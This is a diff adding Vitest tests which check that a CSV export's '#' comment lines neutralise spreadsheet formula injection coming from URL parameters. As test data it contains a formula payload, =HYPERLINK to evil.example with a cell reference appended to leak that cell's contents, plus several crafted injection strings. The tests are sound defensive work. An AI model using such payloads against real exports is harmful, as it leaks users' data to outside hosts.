@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { csvCell, parseCsv, toCsv } from '../../app/utils/csv';
+import { csvCell, csvComment, parseCsv, toCsv } from '../../app/utils/csv';
 import { outcomeColumns } from '../../app/utils/figure-columns';
 import type { PageOutcomeRow } from '../../db/queries/get-outcomes';
 import { definedFigures } from '../../db/queries/outcome-query';
@@ -71,6 +71,41 @@ describe('CSV cells', () => {
     expect(csvCell('say "hi"')).toBe('"say ""hi"""');
     expect(csvCell('a\nb')).toBe('"a\nb"');
     expect(csvCell('# not a comment')).toBe('"# not a comment"');
+  });
+});
+
+/** The fields a spreadsheet makes of a "#" line: it splits it at every comma like any other line. */
+const spreadsheetFields = (line: string) => line.split(',');
+/** A field a spreadsheet would run, or read as a quoted field that could hold a formula. */
+const runnable = (field: string) => /^\s*[=+\-@"]/.test(field) && !/^\s*-?\d+(\.\d+)?\s*$/.test(field);
+
+describe('the "#" lines of a file, which take their values from the address', () => {
+  test('a value written into a link cannot put a formula in a field of a # line', () => {
+    // /quality/episodes.csv?metric=recovery&clinician=x,=HYPERLINK("http://evil.example/"%26A9)
+    const line = csvComment(
+      'Behind the figure: Recovery, the episodes counted, clinician x,=HYPERLINK("http://evil.example/"&A9)',
+    );
+    expect(line).toBe(
+      `# Behind the figure: Recovery, the episodes counted, clinician x,'=HYPERLINK("http://evil.example/"&A9)`,
+    );
+    const crafted = [
+      'Location: Evanston, =1+1',
+      'Location: a,+SUM(1),@A1,-cmd',
+      'Location: a,\t=1+1',
+      'Who: x,"=1+1"',
+      'Location: a,\r\n=1+1',
+    ];
+    for (const text of crafted) {
+      const fields = spreadsheetFields(csvComment(text));
+      expect(fields.filter(runnable), text).toEqual([]);
+      expect(csvComment(text).startsWith('# ')).toBe(true);
+      expect(csvComment(text)).not.toMatch(/[\r\n]/);
+    }
+  });
+
+  test('ordinary values read as before: names with commas, negative numbers', () => {
+    expect(csvComment('Location: Evanston, Online')).toBe('# Location: Evanston, Online');
+    expect(csvComment('Mean change: -4.6, -1.2')).toBe('# Mean change: -4.6, -1.2');
   });
 });
 
